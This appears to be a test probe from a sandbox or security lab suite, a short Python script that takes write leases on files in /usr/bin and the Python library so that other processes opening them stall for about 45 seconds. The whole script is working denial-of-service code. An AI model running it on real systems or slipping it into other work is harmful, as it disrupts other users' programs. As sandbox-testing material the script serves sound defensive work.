"""Tries to make everyone else who opens a file of the system wait for 45 seconds, with leases on all it can read.

Lab: 03
Earns: nothing
May not touch: files that others open, such as bwrap and those of Python
"""

import fcntl
import os
import signal
from pathlib import Path

signal.signal(signal.SIGIO, signal.SIG_IGN)  # which is how the kernel asks for a file back
held = []
for folder in (Path("/usr/bin"), Path(os.__file__).parent):
    for path in sorted(folder.iterdir())[:400]:
        try:
            held.append(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            fcntl.fcntl(held[-1], fcntl.F_SETLEASE, fcntl.F_WRLCK)
        except OSError:
            continue
        print("GOT", path)
